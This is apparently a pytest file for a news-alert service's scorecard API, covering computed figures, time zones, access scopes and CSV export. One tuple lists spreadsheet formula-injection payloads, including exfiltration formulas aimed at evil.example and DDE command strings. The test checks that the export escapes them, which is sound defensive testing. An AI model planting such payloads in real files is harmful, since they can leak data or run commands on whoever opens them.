"""Scorecards over HTTP: each figure from rows made by hand, as JSON and as CSV that no spreadsheet runs."""

import csv
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Any

import pytest
from sqlalchemy import insert, update

from app.alerts.types import AlertState, Level, TransitionKind
from app.api.sheets import Dialect, Sheet, disposition, to_csv
from app.records import Role, Scope
from app.schema.coverage import coverage_hour
from app.schema.organisation import organisation
from app.storage.database import Database
from app.storage.transitions import append_transition
from tests.support.rows import (
    NOON,
    add_alert,
    add_emergence,
    add_signal,
    add_source,
    add_story,
    add_watch,
)
from tests.support.web import Client, Web

HOUR, MINUTE = timedelta(hours=1), timedelta(minutes=1)
MONDAY = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)  # of the week before `NOON`
DAY = timedelta(days=1)

# What spreadsheets take for a formula, a command or a link (SE-12).
FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTDATA("https://evil.example")',
    '=IMAGE("https://evil.example/x.png")',
    "=cmd|'/c calc'!A0",
    '=DDE("cmd";"/c calc";"x")',
    '=RTD("x","","y")',
    "=INDIRECT(A1)",
    "=A1",
    "==1",
    "= 1+1",
    "=\t1",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "++1",
    "+SUM(1;2)",
    "+A1",
    "+ 1",
    "-1+1",
    "-cmd|'/c calc'!A0",
    "--1",
    "-A1",
    "-2+3+cmd|'/c calc'!A0",
    "- 1",
    "@SUM(1+1)",
    "@A1",
    "@cmd|'/c calc'!A0",
    "@ 1",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r",
    "\n=1+1",
    "\n+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '=1+1";=2+2',
    "=1+1\r\n=2+2",
)


async def judge(database: Database, number: int, kind: TransitionKind, at: datetime, reason: str = "") -> None:
    """Somebody acts on an alert."""
    from app.schema.alert import alert

    state = AlertState(kind.value)
    async with database.transaction() as connection:
        await append_transition(connection, number, kind, state, 62, Level.SERIOUS, at, actor="kari")
        await connection.execute(
            update(alert).where(alert.c.id == number).values(state=state.value, dismiss_reason=reason)
        )


async def set_a_week(database: Database) -> tuple[int, int]:
    """Six alerts on one watch, of which four were handled and two dismissed, and one alert on another."""
    async with database.transaction() as connection:
        local = await add_source(connection, name="Lokalavisa", tier=3)
        national = await add_source(connection, tier=1)
        asks = {"owner": "Head teacher", "alerts_per_day": 2, "query": "source:Lokalavisa"}
        school = await add_watch(connection, "School", **asks)
        water = await add_watch(connection, "=1+1", owner="", alerts_per_day=3)
        alerts = []
        for number in range(6):
            raised_at = MONDAY + number * DAY
            signals = [
                await add_signal(connection, local, at=raised_at - 5 * MINUTE),
                await add_signal(connection, local, at=raised_at + (number + 1) * HOUR),
                await add_signal(connection, national, at=raised_at + (number + 1) * HOUR + 30 * MINUTE, tier=1),
            ]
            story_id = await add_story(connection, signals)
            found = await add_emergence(connection, school, signals[:1], story_id, at=raised_at)
            alerts.append(await add_alert(connection, school, story_id, emergence_id=found, at=raised_at))
        await add_alert(connection, water, at=MONDAY - 7 * DAY)
        for hold in ("budget", "budget", "false_alarms"):
            await add_emergence(connection, water, [signals[0]], at=MONDAY, verdict="hold", hold=hold)
        for source_id, heard in ((local, 3), (national, 1)):
            for hour in range(4):
                state = "seen" if hour < heard else "failing"
                row = {"hour": MONDAY + hour * HOUR, "expected": 1.0, "seen": 1, "polls": 4, "failed": 0}
                await connection.execute(insert(coverage_hour).values(source_id=source_id, state=state, **row))
    for number, alert_id in enumerate(alerts):
        raised_at = MONDAY + number * DAY
        if number < 4:
            await judge(database, alert_id, TransitionKind.ACKNOWLEDGED, raised_at + (number + 1) * MINUTE)
            await judge(database, alert_id, TransitionKind.HANDLED, raised_at + HOUR)
        else:
            reason = "old_news" if number == 4 else "not_relevant"
            await judge(database, alert_id, TransitionKind.DISMISSED, raised_at + (number + 1) * MINUTE, reason)
    return school, water


async def ask(client: Client, query: str) -> Any:
    answer = await client.get(f"/api/v1/scorecard?{query}")
    assert answer.status == 200, answer.body
    return answer.json()


async def test_each_figure_is_that_of_the_rows_ux_19(web: Web, database: Database) -> None:
    school, water = await set_a_week(database)
    found = await ask(await web.with_key(Scope.READ), "span=week&day=2026-03-04")
    assert found["period"] == {
        "first": "2026-03-02",
        "last": "2026-03-08",
        "begin": "2026-03-01T23:00:00Z",
        "until": "2026-03-08T23:00:00Z",
    }
    assert found["before"]["first"] == "2026-02-23"
    cards = {card["id"]: card for card in found["watches"]}
    one = cards[str(school)]["now"]
    assert one["alerts"] == 6
    assert (one["precision"]["count"], one["precision"]["of"]) == (4, 6)
    assert one["precision"]["share"] == pytest.approx(4 / 6)
    # the busiest hour begins so many hours after the alert as its number says: 08:00 + n
    assert one["to_peak"] == {"count": 6, "median": 3.5 * 3600, "ninth": 6 * 3600, "ahead": 6}
    assert one["to_tier1"] == {"count": 6, "median": 4 * 3600, "ninth": 6.5 * 3600, "ahead": 6}
    assert one["to_acknowledge"] == {"count": 6, "median": 210, "ninth": 360, "ahead": 6}
    assert one["to_handle"] == {"count": 4, "median": None, "ninth": None, "ahead": 4}
    assert one["dismissed"] == {"not_relevant": 1, "old_news": 1}
    assert one["load"]["by_day"] == [1, 1, 1, 1, 1, 1, 0]
    assert (one["load"]["limit"], one["load"]["a_day"]) == (2, pytest.approx(6 / 7))
    assert one["coverage"] == pytest.approx(3 / 4)  # it listens to one of the two
    other = cards[str(water)]
    assert (other["now"]["alerts"], other["before"]["alerts"]) == (0, 1)
    assert other["now"]["held"] == {"budget": 2, "false_alarms": 1}
    assert other["now"]["coverage"] == pytest.approx(4 / 8)
    assert (other["before"]["untaken"], other["before"]["coverage"]) == (1, None)
    whole = found["organisation"]["now"]
    assert (whole["alerts"], whole["load"]["limit"], whole["held"]) == (6, 5, {"budget": 2, "false_alarms": 1})
    assert [team["name"] for team in found["teams"]] == ["Head teacher", ""]
    assert found["teams"][0]["now"] == one


async def test_days_are_those_of_the_organisation(web: Web, database: Database) -> None:
    async with database.transaction() as connection:
        watch_id = await add_watch(connection)
        await add_alert(connection, watch_id, at=datetime(2026, 2, 28, 23, 30, tzinfo=UTC))  # 1 March in Oslo
    client = await web.with_key(Scope.READ)
    assert (await ask(client, "span=month"))["organisation"]["now"]["alerts"] == 1
    async with database.transaction() as connection:
        await connection.execute(update(organisation).values(time_zone="Europe/London"))
    found = await ask(client, "span=month")
    assert (found["time_zone"], found["organisation"]["now"]["alerts"]) == ("Europe/London", 0)
    assert found["organisation"]["before"]["alerts"] == 1
    assert (await ask(client, "span=custom&from=2026-02-28&until=2026-02-28"))["organisation"]["now"]["alerts"] == 1


async def test_what_forkant_closes_itself_is_no_answer_of_people(web: Web, database: Database) -> None:
    async with database.transaction() as connection:
        watch_id = await add_watch(connection)
        number = await add_alert(connection, watch_id, at=MONDAY)
        await append_transition(
            connection, number, TransitionKind.DISMISSED, AlertState.DISMISSED, 62, Level.SERIOUS, MONDAY + HOUR
        )
    found = (await ask(await web.with_key(Scope.READ), "span=week&day=2026-03-02"))["organisation"]["now"]
    assert (found["to_acknowledge"]["count"], found["precision"]["of"], found["untaken"]) == (0, 0, 1)


async def test_restricted_tips_count_for_those_who_see_them_se_27(web: Web, database: Database) -> None:
    async with database.transaction() as connection:
        tips = await add_source(connection, kind="inbound")
        watch_id = await add_watch(connection)
        secret = await add_signal(connection, tips, "Noe er galt på lager", at=MONDAY, sensitivity="restricted")
        story_id = await add_story(connection, [secret])
        await add_alert(connection, watch_id, story_id, at=MONDAY)
        await add_emergence(connection, watch_id, [secret], story_id, at=MONDAY, verdict="hold", hold="budget")
    for scope, seen in ((Scope.READ, 0), (Scope.ADMIN, 1)):
        found = (await ask(await web.with_key(scope), "span=week&day=2026-03-02"))["organisation"]["now"]
        assert (found["alerts"], sum(found["held"].values())) == (seen, seen)


@pytest.mark.parametrize(
    "query", ["span=year", "day=yesterday", "span=custom&from=2026-03-02&until=2026-03-01", "day=1000-01-01"]
)
async def test_a_period_that_cannot_be_is_refused(web: Web, query: str) -> None:
    assert (await (await web.with_key(Scope.READ)).get(f"/api/v1/scorecard?{query}")).status == 422


async def test_the_table_holds_what_the_answer_holds_se_12(web: Web, database: Database) -> None:
    await set_a_week(database)
    client = await web.with_key(Scope.READ)
    answer = await client.get("/api/v1/scorecard.csv?span=week&day=2026-03-04")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="Forkant ')
    rows = list(csv.DictReader(StringIO(answer.text, newline="")))
    assert [(row["kind"], row["name"], row["period"]) for row in rows[:2]] == [
        ("organisation", rows[0]["name"], "this"),
        ("organisation", rows[0]["name"], "before"),
    ]
    assert len(rows) == 2 * (1 + 2 + 2)
    assert {row["name"] for row in rows if row["kind"] == "watch"} == {"'=1+1", "School"}
    (school,) = (row for row in rows if row["name"] == "School" and row["period"] == "this")
    assert (school["precision"], school["peak_lead_median_minutes"], school["held_budget"]) == ("0.6667", "210.0", "0")
    assert (school["handle_median_minutes"], school["handled"], school["coverage"]) == ("", "4", "0.75")
    excel = (await client.get("/api/v1/scorecard.csv?span=week&day=2026-03-04&dialect=excel")).body.decode("utf-8")
    assert excel.startswith("\ufeffkind;name;")
    (same,) = (
        row
        for row in csv.DictReader(StringIO(excel[1:], newline=""), delimiter=";")
        if row["name"] == "School" and row["period"] == "this"
    )
    assert same["precision"] == "0,6667"


@pytest.mark.parametrize("dialect", Dialect)
def test_no_cell_is_taken_for_a_formula_se_12(dialect: Dialect) -> None:
    assert len(FORMULAS) >= 42
    text = to_csv(Sheet(("=head", "number"), [(formula, -1.5) for formula in FORMULAS]), dialect)
    delimiter = ";" if dialect is Dialect.EXCEL else ","
    heading, *rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    assert heading == ["'=head", "number"]
    assert [row[0] for row in rows] == [f"'{formula}" for formula in FORMULAS]
    assert {row[1] for row in rows} == {"-1.5" if dialect is Dialect.PLAIN else "-1,5"}


@pytest.mark.parametrize(
    "plain", ["Skole", "", "a=b", "1-2", "kari@ås.no", "Vann; avløp", 'Han sa "nei"', "a\r\nb", "-"]
)
def test_ordinary_cells_come_back_as_they_were_se_12(plain: str) -> None:
    ((back,),) = list(csv.reader(StringIO(to_csv(Sheet((plain,), ())), newline=""))) if plain else ((plain,),)
    assert back.removeprefix("'") == plain
    assert back == plain or plain == "-"


def test_a_file_is_named_for_old_and_new_browsers_se_12() -> None:
    assert disposition("plan.csv") == 'attachment; filename="plan.csv"'
    named = disposition('Ås "by"\r\n.csv')
    assert named == "attachment; filename=\"_s _by___.csv\"; filename*=UTF-8''%C3%85s%20%22by%22%0D%0A.csv"


async def test_false_alarms_are_borne_as_set_and_by_watch_where_nobody_did(web: Web, database: Database) -> None:
    async with database.transaction() as connection:
        for number in range(3):
            await add_watch(connection, is_active=number != 2)
        watch_id = await add_watch(connection)
        for kind in ("surge", "report"):
            found = await add_emergence(connection, watch_id, [], kind=kind)
            await add_alert(connection, watch_id, emergence_id=found, at=NOON - HOUR, state="faded")
    admin = await web.with_key(Scope.ADMIN)
    assert (await admin.get("/api/v1/false-alarms")).json() == {"chosen": None, "a_month": 3, "spent": 1, "bar": 0}
    assert (await admin.ask("PUT", "/api/v1/false-alarms", json={"a_month": 0})).json()["a_month"] == 0
    assert (await admin.get("/api/v1/false-alarms")).json()["chosen"] == 0
    assert (await admin.ask("PUT", "/api/v1/false-alarms", json={"a_month": None})).json()["a_month"] == 3
    for wrong in (-1, 1001, "many"):
        assert (await admin.ask("PUT", "/api/v1/false-alarms", json={"a_month": wrong})).status == 422
    ola = await web.signed_in(Role.TRIAGE, "ola")
    assert (await ola.ask("PUT", "/api/v1/false-alarms", json={"a_month": 9})).status == 403
